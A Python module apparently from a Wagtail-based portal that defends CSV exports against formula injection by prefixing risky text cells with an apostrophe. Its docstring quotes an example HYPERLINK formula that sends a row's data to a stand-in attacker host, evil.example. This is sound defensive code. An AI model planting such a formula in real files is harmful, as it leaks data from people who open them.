"""CSV files the portal writes are safe to open in a spreadsheet: no cell is taken for a formula.

A spreadsheet runs a cell that starts with = + - @ (or a tab or carriage return before one) as a formula:
`=HYPERLINK("http://evil.example/?leak="&A2,"Source")` in an imported note would send the row to another
site when an editor opens the download. OWASP's rule: prefix such text cells with an apostrophe, which
spreadsheets show as text and do not display. Numbers are left alone (a negative value stays a number).

Used by the indicators download (countries.indicator_csv) and, through `protect_wagtail_exports`, by every
CSV export of Wagtail's admin (snippet and model listings, reports). Hand-written: the rule is four lines,
and defusedcsv, the library for it, replaces the csv module, which Wagtail's exports import themselves.
"""

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value):
    """The cell as a spreadsheet should show it: text that a spreadsheet would run gets a leading apostrophe."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def protect_wagtail_exports():
    """Neutralise every text cell of Wagtail's CSV exports (its XLSX exports already store formulas as text)."""
    from wagtail.admin.views.mixins import SpreadsheetExportMixin

    if getattr(SpreadsheetExportMixin.write_csv_row, "neutralises_formulas", False):
        return

    def write_csv_row(self, writer, row_dict):
        return writer.writerow(
            {
                field: neutralise(self.preprocess_field_value(field, value, self.FORMAT_CSV))
                for field, value in row_dict.items()
            }
        )

    write_csv_row.neutralises_formulas = True
    SpreadsheetExportMixin.write_csv_row = write_csv_row
